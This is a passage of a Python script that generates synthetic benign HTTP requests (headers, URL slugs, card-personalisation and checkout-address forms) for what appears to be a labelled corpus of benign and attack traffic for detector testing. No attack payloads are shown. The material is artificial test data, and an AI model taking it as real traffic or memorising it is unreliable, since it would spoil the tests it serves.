def header_text(rng, entry):
    name, text = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    h.append([name, g.header_safe(text)])
    return g.request("GET", rng.choice(["/api/checkout/summary", "/api/basket", "/api/bookings/current"]), h)


def path_slug(rng, path):
    return g.request("GET", urllib.parse.quote(path, safe="/-_.~"), g.browser_headers(rng))


def poem_multipart(rng, entry):
    title, author, text = entry
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), "/cards/personalise")
    fields = [("occasion", rng.choice(["birthday", "sympathy", "christmas", "anniversary", "just-because"])),
              ("card_font", rng.choice(["Script", "Serif", "Handwritten"])), ("title", title), ("attribution", author),
              ("message", crlf(text)), ("sign_off", rng.choice(["With love, Gran x", "All our love, the Murphys", "- S."]))]
    return post_multipart(rng, "/cards/personalise", h, fields)


def address_form(rng, entry):
    name, line1, line2, city, region, postcode, country, phone = entry
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), "/checkout/address")
    fields = [("full_name", name), ("address_line1", line1), ("address_line2", line2), ("city", city), ("region", region),
              ("postcode", postcode), ("country", country), ("phone", phone),
              ("delivery_notes", rng.choice(["", "Ring twice", "Side gate is open", "Leave with reception"])),
              ("save_address", rng.choice(["true", "false"])), ("csrf_token", csrf(rng))]
    return g.post_form("/checkout/address", h, fields)


KINDS = [
    ("search", search, SEARCHES), ("referer_search", referer_search, REFERER_QUERIES),
    ("support_form", support_form, SUPPORT), ("review_json", review_json, REVIEWS),
    ("news_comment_form", news_comment, NEWS_COMMENTS), ("travel_json", travel_json, TRAVEL),
    ("bank_form", bank_form, BANK_PAYMENTS), ("gov_multipart", gov_multipart, GOV_FORMS),
    ("dating_json", dating_json, DATING), ("recipe_json", recipe_json, RECIPES), ("school_form", school_form, SCHOOL),
    ("rich_text_json", rich_text_json, RICH_TEXT), ("upload_json", upload_json, UPLOADS), ("jwt_api", jwt_api, JWT_CALLS),
    ("cookie_text", cookie_text, COOKIE_TEXTS), ("header_text", header_text, HEADER_TEXTS),
    ("path_slug", path_slug, PATH_SLUGS), ("poem_multipart", poem_multipart, POEMS), ("address_form", address_form, ADDRESSES),
]


def benign():
    return g.built_benign("fifth-", KINDS, g.Source(SEED))


if __name__ == "__main__":
    g.corpus_main(attacks, benign)
